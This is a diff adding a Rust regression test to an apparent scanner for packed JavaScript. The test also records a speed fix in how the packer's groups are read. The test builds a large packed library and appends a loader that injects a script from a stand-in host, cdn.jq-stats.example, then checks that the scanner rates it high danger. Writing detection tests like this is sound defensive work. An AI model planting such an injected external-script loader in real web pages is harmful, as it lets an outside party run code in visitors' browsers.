@@ -301,6 +301,19 @@ fn a_packed_script_that_only_loads_another_sites_script_is_found() {
 }
 
 #[test]
+fn a_packed_loader_behind_a_long_payload_is_found() {
+    // Regression (speed): the packer's groups were read by the regex engine's slowest mode,
+    // 70 KB of a packed editor cost 52 M instructions; they are read by hand now. The loader
+    // comes after 90 KB of the library's own code (60 KB packed), with escapes in the payload.
+    let library = "var o={a:1};o.b=function(x){return x+\\'px\\'};".repeat(2_000);
+    let loader = "var s=document.createElement('script');s.src='https://cdn.jq-stats.example/j.js';document.head.appendChild(s);";
+    let js = packed(&format!("{library}{loader}"));
+    assert!(js.len() > 50_000, "{}", js.len());
+    assert_eq!(found(&js), Some(Danger::High));
+    assert_eq!(found(&packed(&library)), None);
+}
+
+#[test]
 fn a_packed_library_is_not_a_finding() {
     // Libraries were shipped packed too: what they unpack to makes elements and reads the page,
     // but loads no other site's script.
